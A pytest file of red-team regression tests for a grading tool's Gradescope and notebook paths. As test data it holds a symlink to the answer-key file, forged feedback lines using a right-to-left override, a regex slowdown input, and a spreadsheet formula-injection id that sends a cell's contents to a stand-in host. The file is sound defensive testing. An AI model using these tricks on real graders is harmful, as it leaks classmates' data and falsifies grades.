"""Grading trust, attacked as a student handing in a file would (red-team review h42).

Each test here failed before its fix: a hand-in that reached past itself, a slip's number taken from a
construction graphkin had called not valid, a class regrade where one id is graded twice without a word.
"""

from __future__ import annotations

import json
import math
import os
from pathlib import Path

import pytest

from graphkin import exercises
from graphkin.exercises.keys import keys_text, make_keys
from graphkin.exercises.platforms import gradescope

CATALOG = Path(exercises.__file__).resolve().parents[1] / "catalog" / "exercises"


# -- Gradescope: an answers file that is a link ------------------------------------------------------------------


def _autograder(tmp_path: Path, roster: list[str]) -> Path:
    """/autograder as Gradescope lays it out, enough for :func:`gradescope.grade_submission`."""
    root = tmp_path / "autograder"
    (root / "source").mkdir(parents=True)
    (root / "submission").mkdir()
    (root / "source" / gradescope.KEYS).write_text(
        keys_text(make_keys(exercises.load("single_link"), roster, "k")), encoding="utf-8")
    meta = {"users": [{"sid": roster[0], "email": "", "name": "A", "id": 1}]}
    (root / "submission_metadata.json").write_text(json.dumps(meta), encoding="utf-8")
    return root


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="no symbolic links here")
def test_a_gradescope_answers_file_that_is_a_link_is_refused_unread(tmp_path):
    """A submission (a GitHub repository keeps links, so does an unzipped upload) whose answers.json links to the
    autograder's keys.json had every classmate's id echoed back as "not questions of this exercise"."""
    roster = ["s-alice", "s-bob-7731"]
    root = _autograder(tmp_path, roster)
    link = root / "submission" / "answers.json"
    link.symlink_to(root / "source" / gradescope.KEYS)
    with pytest.raises(gradescope.SubmissionError, match="link"):
        gradescope.find_answers(root / "submission")
    results = gradescope.grade_submission(root, CATALOG / "single_link.toml", {})
    shown = json.dumps(results, ensure_ascii=False)
    assert results["score"] == 0 and "s-bob-7731" not in shown and "students." not in shown
    assert "Not graded" in results["output"] and "link" in results["output"]


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="no symbolic links here")
def test_a_gradescope_answers_file_under_a_linked_folder_is_refused(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "answers.toml").write_text('T12 = "1 N*m"\n', encoding="utf-8")
    sub = tmp_path / "submission"
    sub.mkdir()
    (sub / "work").symlink_to(outside, target_is_directory=True)
    # Whether or not this Python's rglob walks into a linked folder, nothing under it is read.
    with pytest.raises(gradescope.SubmissionError):
        gradescope.find_answers(sub)


def test_a_gradescope_answers_file_is_read_within_its_cap(tmp_path, monkeypatch):
    big = tmp_path / "answers.toml"
    big.write_text('T12 = "1 N*m"\n' + "#" * 5000 + "\n", encoding="utf-8")
    monkeypatch.setattr(gradescope, "MAX_ANSWERS_BYTES", 1000)
    with pytest.raises(gradescope.SubmissionError, match="bytes"):
        gradescope.read_answers(big)


# -- A graphical value from a construction that is not valid is no number ----------------------------------------


def test_a_slip_read_off_a_construction_that_is_not_valid_is_no_number(monkeypatch):
    """The key's own construction is refused when not valid (variants._unusable), but a slip's re-solved one was
    read as it was: a construction the guard found disagreeing with the analytical route still gave its forces,
    and they went into keys.json as the slip's value and earned the slip's share."""
    import dataclasses

    from graphkin.exercises.quantities import value_of
    from graphkin.exercises.variants import Solved, make_variant

    ex = exercises.load("double_slider_graphical")
    v = make_variant(ex, "s1", "k")
    graphical = [q for q in ex.questions if q.route == "graphical"]
    assert {q.kind for q in graphical} >= {"force", "driver_force", "concurrency"}
    altered = v.altered("no_inertia_torque")
    assert altered.construction.valid and all(value_of(altered, q) is not None for q in graphical)
    bad = dataclasses.replace(altered.construction, valid=False, disagreement=True,
                              reason="the graphical and analytical routes disagree: F23 (a test's fault)")
    monkeypatch.setattr(Solved, "construction", property(lambda self: bad))
    fresh = Solved(altered.problem, ex, altered.Cs)  # the slip's problem, its construction found not valid
    assert all(value_of(fresh, q) is None for q in graphical)


# -- A class regrade of notebooks: one id graded from two files --------------------------------------------------


def _notebook(path: Path, cells: list[str]) -> Path:
    nb = {"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": c}
                    for c in cells], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    path.write_text(json.dumps(nb), encoding="utf-8")
    return path


def test_a_notebook_claiming_a_classmates_id_is_named_in_the_regrade(capsys, tmp_path):
    """``grade --answers *.ipynb`` grades each notebook as the id typed in it: a second notebook claiming alice's id
    gave a second row for alice (the later one wins a gradebook's import) and no row for whoever handed it in, without
    a word. Now the teacher is told which files share an id, and which roster students handed nothing in."""
    from graphkin.cli import main

    key = {q["id"]: q["answer"]["text"] for q in exercises.key("single_link", "alice", "k")["questions"]}
    alice = _notebook(tmp_path / "alice_hw.ipynb", ['STUDENT = "alice"', f"F12 = {key['F12']!r}",
                                                    f"T12 = {key['T12']!r}"])
    mallory = _notebook(tmp_path / "mallory_hw.ipynb", ['STUDENT = "alice"', 'F12 = "1 N @ 0°"', 'T12 = "1 N*m"'])
    (tmp_path / "roster.csv").write_text("student\nalice\nmallory\n", encoding="utf-8")
    code = main(["exercise", "grade", "single_link", "--secret", "k", "--json", "--roster",
                 str(tmp_path / "roster.csv"), "--answers", str(alice), str(mallory)])
    out, err = capsys.readouterr()
    assert code == 0, err
    assert [r["student"] for r in json.loads(out)] == ["alice", "alice"]
    assert f"student 'alice' was graded in 2 files ({alice}, {mallory})" in err
    assert "no hand-in is graded as 1 roster student: mallory" in err


# -- A drawn element's name is the student's text: never a line break or a direction override in the feedback -----


def test_a_drawn_elements_name_cannot_write_lines_into_the_feedback():
    """An element's name was quoted in the feedback as typed: a line break and "F12: correct, 1 / 1 — Correct."
    after it read, in the teacher's table and on Gradescope, as a second verdict; a right-to-left override turned
    the sentence around."""
    from graphkin.exercises.drawn_grading import grade_drawing
    from graphkin.exercises.drawn_tasks import task_of

    v = exercises.variant("draw_strip_cutter", "s001")
    qid = v.exercise.questions[0].id
    task = task_of(v, qid, practice=True)
    right = task["check"]["targets"][0]["elements"]
    forged = "\nR: correct, 1 / 1 \u2014 Correct.\u202e"
    far = []
    for e in right:
        e = json.loads(json.dumps(e))
        for key in ("through", "at", "from", "to"):
            for p in (e[key] if key == "through" else [e[key]]) if key in e else []:
                p[0] += 1.0  # a metre away: wrong
        far.append(e | {"name": forged[:40]})
    drawing = {"drawing": 1, "question": qid, "space": task["space"], "unit": task["unit"], "elements": far}
    r = grade_drawing(v, qid, drawing)
    assert r["verdict"] == "wrong" and r["score"] == 0
    assert "\n" not in r["feedback"] and "\u202e" not in r["feedback"]
    bad = dict(drawing, question="\u202eq\nCorrect.")
    r = grade_drawing(v, qid, json.dumps(bad))
    assert r["verdict"] == "unreadable" and "\n" not in r["feedback"] and "\u202e" not in r["feedback"]


# -- The platform's grade and the teacher's regrade read a notebook's answers alike --------------------------------


def test_a_drawing_typed_as_a_literal_object_is_graded_alike_on_the_platform_and_in_the_regrade():
    """A notebook answering a drawn question with the drawing as a dict literal (read as data: a literal) was
    graded correct by ``graphkin exercise grade --answers *.ipynb`` but 0 on otter and nbgrader, whose grading
    process received every dict as an empty one ("drawing must be 1 ..., got null"): the regrade, which promises the
    platform's scores, gave another. Now the grading process receives the literal as it was read."""
    from graphkin.exercises.drawn_tasks import right_drawing
    from graphkin.exercises.keys import Keys
    from graphkin.exercises.notebooks import answer_variables, read_cells
    from graphkin.exercises.platforms.isolated import decode, grade_one, submission

    ex = exercises.load("draw_strip_cutter")
    v = exercises.variant(ex, "s1")
    qs = ex.questions[:2]
    var = answer_variables([q.id for q in ex.questions])
    as_tuples = {**right_drawing(v.drawn(qs[1])), "elements": ()}  # a tuple is not a list: refused, both ways
    cells = ['STUDENT = "s1"', f"{var[qs[0].id]} = {right_drawing(v.drawn(qs[0]))!r}",
             f"{var[qs[1].id]} = {as_tuples!r}"]
    claimed, answers = read_cells(cells, var)
    keys = Keys(make_keys(ex, ["s1"]))
    regrade = grade_one(keys, "s1", answers, claimed)
    sent = json.loads(json.dumps(submission("s1", answers, claimed)))  # the request, as the process reads it
    platform = grade_one(keys, "s1", {k: decode(a) for k, a in sent["answers"].items()}, decode(sent["claimed"]))
    assert [q["verdict"] for q in regrade["questions"][:2]] == ["correct", "unreadable"]
    assert platform["questions"] == regrade["questions"]


# -- A notebook whose cell does not parse cannot hold up the class -------------------------------------------------


def test_a_long_line_in_a_cell_that_does_not_parse_is_read_in_linear_time():
    """A cell that does not parse is read line by line for its answers; the line pattern's lazy value before
    trailing spaces took time quadratic in a run of spaces (80 000 spaces: two minutes; a 2 MB cell, a day), in the
    teacher's process, before any time limit: one notebook held up the whole class. Now the same reading, at once."""
    import time

    from graphkin.exercises.notebooks import NotData, read_cells

    cells = ['F23 = "1 N"' + " " * 60_000 + "x\n)", 'T12 = "2 N*m"   \nF14 = 3 \n(', 'F12 =\nF43 =  \n(']
    start = time.perf_counter()
    claimed, answers = read_cells(cells, {q: q for q in ("F23", "T12", "F14", "F12", "F43")})
    assert time.perf_counter() - start < 3
    assert answers["F23"] == NotData("not valid Python")
    assert (answers["T12"], answers["F14"], answers["F12"]) == ("2 N*m", 3, None)
    assert answers["F43"] == NotData("not valid Python")


# -- An angle too large to be a direction is refused, never read as another direction ------------------------------


@pytest.mark.parametrize("text, dimension, unit", [("1e20 deg", "angle", "deg"), ("1e20", "angle", "deg"),
                                                    (1e20, "angle", "deg"), ("12 N @ 1e20 deg", "force", "N"),
                                                    ("12 N @ 1e300 rad", "force", "N"), ("-4e15 rad", "angle", "deg")])
def test_an_angle_of_more_than_a_million_turns_is_refused(text, dimension, unit):
    """"1e20°" is 280° (10^20 mod 360), but in radians as a float it is 1.745e18 ± 256 rad: the reader gave a
    direction no better than a random one and graded it, a silently wrong number. Now a sentence."""
    from graphkin.exercises.answers import Unreadable, read_answer

    with pytest.raises(Unreadable, match="turns"):
        read_answer(text, dimension=dimension, unit=unit)


def test_a_direction_of_a_few_turns_is_still_read():
    from graphkin.exercises.answers import read_answer

    assert read_answer("-3546.22°", dimension="angle", unit="deg").value == pytest.approx(math.radians(-3546.22))
    assert read_answer("12 N @ 720 deg", dimension="force", unit="N").vector == pytest.approx((12.0, 0.0))


# -- A class table opened in a spreadsheet: text a student typed is never a formula -------------------------------


def test_an_id_typed_as_a_formula_is_text_in_the_class_table(capsys, tmp_path):
    """The regrade's CSV put the id a notebook carries in the student column as typed: `=HYPERLINK(...)` (or
    `=cmd|...`) became a formula when the teacher opened grades.csv in a spreadsheet. A cell of the student's text
    that begins as a formula does is now written with a leading apostrophe, as spreadsheets keep text."""
    import csv as csv_module
    import io

    from graphkin.cli import main
    from graphkin.exercises.roster import spreadsheet_text

    evil = '=HYPERLINK("http://example.invalid/?"&A1,"s1")'
    nb = _notebook(tmp_path / "evil.ipynb", [f"STUDENT = {evil!r}", 'T12 = "+1 N*m"'])
    code = main(["exercise", "grade", "single_link", "--secret", "k", "--answers", str(nb)])
    out, err = capsys.readouterr()
    assert code == 0, err
    rows = list(csv_module.DictReader(io.StringIO(out)))
    assert rows[0]["student"] == "'" + evil
    assert [spreadsheet_text(t) for t in ("s1", "-", "+1", "@x", "\t=1", "a=b", 3.5)] == \
        ["s1", "'-", "'+1", "'@x", "'\t=1", "a=b", 3.5]
